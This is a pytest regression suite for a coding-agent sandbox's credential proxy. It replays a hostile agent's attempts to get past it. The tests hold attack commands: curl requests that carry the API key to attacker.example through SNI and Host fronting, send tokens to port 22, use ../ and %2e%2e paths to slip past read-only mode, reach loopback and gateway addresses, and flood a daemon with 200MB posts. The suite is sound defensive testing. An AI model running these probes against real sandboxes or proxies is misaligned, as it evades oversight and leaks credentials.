"""What a hostile agent got in a security test (issue 9), replayed from inside a real
session: `docker exec` as the session's user, requests through the container's own
HTTP(S)_PROXY environment, upstreams stood in for by loopback servers. Each test failed
before its fix."""

from __future__ import annotations

import base64
import json
import socket
from pathlib import Path

import pytest

from .conftest import AGENTS_IMAGE, exec_in
from .test_proxy import ANTHROPIC_KEY, GITHUB_TOKEN, QUIET, curl, routed_config
from .upstream import RecordingUpstream

pytestmark = pytest.mark.docker

PLACEHOLDER = "clauderon-proxy-placeholder"
STATUS = '-o /dev/null -w "%{http_code}"'


@pytest.fixture
def upstream():
    with RecordingUpstream() as server:
        yield server


def start(clauderon, repo, upstream, *args: str, extra: str = "", **env: str):
    clauderon.configure(
        routed_config(upstream, extra),
        ANTHROPIC_API_KEY=ANTHROPIC_KEY,
        GITHUB_TOKEN=GITHUB_TOKEN,
        **env,
    )
    created = clauderon.create(repo, "--image", AGENTS_IMAGE, *QUIET, *args)
    return created, clauderon.container(created)


def audit(clauderon, name: str) -> list[dict]:
    lines = clauderon.run("audit", name, "--json", "-n", "2000").stdout.splitlines()
    return [json.loads(line) for line in lines]


def decision(clauderon, name: str, path: str) -> str:
    entries = [e for e in audit(clauderon, name) if e["path"] == path]
    assert entries, f"no audit entry for {path}"
    return entries[-1]["decision"]


def secrets_in(upstream: RecordingUpstream, prefix: str, secret: str) -> list[str]:
    return [s.path for s in upstream.requests_to(prefix) if secret in json.dumps(s.headers)]


# --- the proxy --------------------------------------------------------------------------


def test_keys_never_travel_in_cleartext(clauderon, repo, upstream):
    # A credentialed host the user did not route: its key may go over TLS only.
    with RecordingUpstream() as plain:
        extra = (
            '[proxy.rules."127.0.0.1"]\ncredential = "example_token"\n'
            'header = "Authorization"\nformat = "Bearer {}"\nenv = "EXAMPLE_TOKEN"\n'
        )
        created, container = start(
            clauderon,
            repo,
            upstream,
            "--egress",
            "open",
            extra=extra,
            EXAMPLE_TOKEN="ex-REAL-1234567",
        )
        _code, out = curl(
            container,
            f"--noproxy '' {STATUS} -H 'Authorization: Bearer {PLACEHOLDER}' "
            f"http://127.0.0.1:{plain.port}/probe/clear",
        )
        assert not plain.requests_to("/probe/clear"), "a key went out over plain HTTP"
        assert out.strip().endswith("403")
        assert decision(clauderon, created["name"], "/probe/clear") == "denied:cleartext"


def test_the_name_sent_upstream_is_the_destination(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    key = '-H "x-api-key: $ANTHROPIC_API_KEY"'
    fronts = {
        # TLS with the attacker's SNI and Host, tunnelled to a credentialed host
        "/probe/front-sni": "--connect-to attacker.example:443:api.anthropic.com:443 "
        "https://attacker.example/probe/front-sni",
        # the right Host, the attacker's SNI (what a CDN routes on)
        "/probe/front-sni-only": "--connect-to attacker.example:443:api.anthropic.com:443 "
        "-H 'Host: api.anthropic.com' https://attacker.example/probe/front-sni-only",
        # plain HTTP with a foreign Host header
        "/probe/front-host": "-H 'Host: attacker.example' http://api.anthropic.com/probe/front-host",
        "/probe/front-tls-host": "-H 'Host: registry.npmjs.org' "
        "https://api.anthropic.com/probe/front-tls-host",
    }
    for path, args in fronts.items():
        _code, out = curl(container, f"{STATUS} {key} {args}")
        assert not upstream.requests_to(path), f"{path} reached the upstream"
        assert decision(clauderon, created["name"], path) == "denied:fronting", out
    # The audit log says what was really contacted.
    curl(container, f"{key} https://api.anthropic.com/probe/fine")
    entry = next(e for e in audit(clauderon, created["name"]) if e["path"] == "/probe/fine")
    assert entry["host"] == "api.anthropic.com" and entry["port"] == 443
    assert entry["contacted"] == f"127.0.0.1:{upstream.port}"
    assert entry["decision"] == "allowed" and entry["credential"] == "anthropic_api_key"


def test_credentials_go_to_the_service_port_only(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream, "--egress", "open")
    _code, out = curl(
        container, f'{STATUS} -H "Authorization: Bearer $GH_TOKEN" https://github.com:22/probe/port'
    )
    assert not upstream.requests_to("/probe/port"), "the GitHub token went to port 22"
    assert decision(clauderon, created["name"], "/probe/port") == "denied:port"
    # The allowlist knows ports too.
    clauderon.run("delete", "--force", created["name"])
    created, container = start(clauderon, repo, upstream)
    code, out = curl(container, "https://github.com:22/probe/port2")
    assert code != 0 and "403" in out and not upstream.requests_to("/probe/port2")


def test_read_only_decides_on_the_normalised_path(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    clauderon.run("set-access-mode", created["name"], "read-only")
    key = '-H "x-api-key: $ANTHROPIC_API_KEY"'
    for args in (
        "-X POST --path-as-is https://api.anthropic.com/v1/messages/../files",
        "-X DELETE --path-as-is https://api.anthropic.com/v1/messages/%2e%2e/files/file_123",
        "-X POST --path-as-is https://api.anthropic.com/v1/messages/%2E%2E/files",
    ):
        _code, out = curl(container, f"{STATUS} {key} {args}")
        assert out.strip().endswith("403"), args
    assert not upstream.requests_to("/v1/messages/") and not upstream.requests_to("/v1/files")
    _code, out = curl(container, f"{STATUS} {key} -X POST https://api.anthropic.com/v1/messages")
    assert out.strip().endswith("200")  # the agent's own model calls still work


def test_open_egress_never_reaches_the_host(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream, "--egress", "open")
    gateway = clauderon.gateway()
    with RecordingUpstream() as loopback, RecordingUpstream(host=gateway) as on_gateway:
        targets = [
            f"http://127.0.0.1:{loopback.port}/probe/host",
            f"http://localhost:{loopback.port}/probe/host",
            f"http://[::ffff:127.0.0.1]:{loopback.port}/probe/host",
            f"http://0.0.0.0:{loopback.port}/probe/host",
            f"https://127.0.0.1:{loopback.port}/probe/host",
            f"http://{gateway}:{on_gateway.port}/probe/host",
        ]
        # A name that resolves to this machine (here the host's own name): the proxy
        # resolves it and refuses the address, not the name.
        hostname = socket.gethostname()
        if socket.gethostbyname(hostname).startswith("127."):
            targets.append(f"http://{hostname}:{loopback.port}/probe/host")
        for url in targets:
            _code, out = curl(container, f"--noproxy '' -m 5 {url}")
            assert "ok GET" not in out, f"{url} reached the host"
        assert not loopback.requests_to("/probe/host")
        assert not on_gateway.requests_to("/probe/host")
    decisions = {
        e["decision"] for e in audit(clauderon, created["name"]) if e["path"] == "/probe/host"
    }
    assert decisions <= {"denied:host"}, decisions
    # A host the user named under [proxy.upstreams] is still reached, on loopback too.
    _code, out = curl(container, "https://registry.npmjs.org/probe/named")
    assert "ok GET /probe/named" in out


def test_echoed_secrets_come_back_as_placeholders(clauderon, repo, upstream):
    _created, container = start(clauderon, repo, upstream)
    basic = base64.b64encode(f"x-access-token:{GITHUB_TOKEN}".encode()).decode()
    for args in (
        '-H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/echo',
        '-H "Authorization: Bearer $GH_TOKEN" https://api.github.com/echo',
        "https://github.com/echo",
        '-H "Accept-Encoding: gzip" -H "x-api-key: $ANTHROPIC_API_KEY" '
        "https://api.anthropic.com/echo",
    ):
        _code, out = curl(container, f"-si {args}")
        for secret in (ANTHROPIC_KEY, GITHUB_TOKEN, basic):
            assert secret not in out, f"{args} handed back a real secret"
        head, body = out.split("\r\n\r\n")[-2:]  # after the CONNECT's own answer
        assert head.startswith("HTTP/") and " 401" in head.splitlines()[0], out
        assert "www-authenticate: Bearer" in head and PLACEHOLDER in head
        assert PLACEHOLDER in body
    # The upstream did receive the real keys: the echo carried them.
    assert secrets_in(upstream, "/echo", ANTHROPIC_KEY) and secrets_in(upstream, "/echo", basic)


def test_hook_reports_are_bounded(clauderon, repo, upstream):
    created, container = start(clauderon, repo, upstream)
    pid = int(clauderon.paths.daemon_lock.read_text().strip())

    def peak_rss_mb() -> float:
        status = Path(f"/proc/{pid}/status").read_text()
        return int(next(x for x in status.splitlines() if x.startswith("VmHWM")).split()[1]) / 1024

    before = peak_rss_mb()
    url = "http://clauderon.internal/v1/agent-events/claude/Stop"
    exec_in(
        container,
        "head -c 200000000 /dev/zero | curl -s -m 60 -o /dev/null -X POST "
        f"-H 'Authorization: Bearer wrong' --data-binary @- {url}",
    )
    exec_in(
        container,
        "head -c 200000000 /dev/zero | curl -s -m 60 -o /dev/null -X POST "
        f"-H 'Transfer-Encoding: chunked' -H 'Authorization: Bearer wrong' -T - {url}",
    )
    grown = peak_rss_mb() - before
    assert grown < 60, f"the daemon grew by {grown:.0f} MB on 400 MB of rejected reports"
    # A real report still gets through, and a wrong token is refused on its headers.
    _code, out = exec_in(
        container,
        f'curl -s {STATUS} -X POST -H "Authorization: Bearer $CLAUDERON_SESSION_TOKEN" '
        f"--data '{{}}' {url}",
    )
    assert out.strip() == "200"
    _code, out = exec_in(
        container, f"curl -s {STATUS} -X POST -H 'Authorization: x' -d '{{}}' {url}"
    )
    assert out.strip() == "403"
    assert clauderon.run("list", "--json").json[0]["name"] == created["name"]
